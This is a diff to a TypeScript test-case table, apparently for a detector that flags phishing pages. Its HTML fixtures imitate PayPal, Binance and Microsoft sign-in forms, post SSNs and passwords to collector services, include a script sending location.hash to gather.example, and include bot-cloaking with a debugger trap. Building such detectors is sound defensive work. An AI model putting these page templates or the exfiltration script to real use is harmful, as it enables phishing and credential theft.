@@ -58,6 +58,47 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   ["secret-to-collector", site("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`)],
   ["secret-to-form-relay", site("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`)],
+  [
+    "papers-to-form-relay",
+    site(
+      "papers to a relay",
+      "Ferry",
+      `<h1>Ferry</h1><p>Your account is locked.</p><form action="https://formspree.io/f/1"><input name="ssn"></form>`,
+    ),
+  ],
+  [
+    "code-under-name",
+    site(
+      "a code under a name",
+      "Ferry",
+      `<div>PayPal</div><form action="/in"><input type="password"><input name="otp"></form>`,
+    ),
+  ],
+  [
+    "company-fields",
+    site("fields of a company", "Ferry", `<form action="/in"><input name="loginfmt"><input type="password"></form>`),
+  ],
+  [
+    "company-fields-without-name",
+    site("fields of a company", "Ferry", `<form action="/in"><input name="loginfmt"><input type="password"></form>`),
+  ],
+  ["frame-over-sign-in", site("a frame to sign in", "Sign in to your account", whole)],
+  [
+    "leaves-with-visitor",
+    site(
+      "takes its visitor along",
+      "Ferry",
+      `<script>location="https://gather.example/?e="+btoa(location.hash)</script>`,
+    ),
+  ],
+  [
+    "for-people-without-tools",
+    site(
+      "asks only people without tools",
+      "Ferry",
+      `${leaves}<script>if(/bot|crawl/.test(navigator.userAgent))document.body.innerHTML="";setInterval(()=>{debugger},9)</script>`,
+    ),
+  ],
   ["form-to-chat", site("to a chat", ours, `${leaves}<h1>${ours}</h1>${whole}${form(chat, `<input name="x">`)}`)],
   [
     "hidden-frame",
@@ -126,13 +167,13 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ["title-of-nothing", site("title of nothing", "…", `<h1>${ours}</h1>${typedInto(`<input name="a">`)}`)],
   ["drops-program", site("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
   ["drops-program-under-name", site("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
-  ["coins-under-name", site("coins under a name", "Ferry", `<h1>Binance event</h1><p>bc1q${"a".repeat(30)}</p>`)],
+  ["coins-under-name", site("coins under a name", "Ferry", `<div>Binance</div><p>bc1q${"a".repeat(30)}</p>`)],
   [
     "call-under-name",
     site(
       "call under a name",
       "…",
-      `<h1>${ours}</h1><p>PayPal desk</p><a href="tel:080000000">call</a><input name="a">`,
+      `<h1>PayPal desk of the ferries</h1><a href="tel:080000000">call</a><input name="a">`,
     ),
   ],
   ["deeper-than-read", site("six pages deep", ours, `<h1>${ours}</h1>${login(`${elsewhere}`)}${nested}`)],
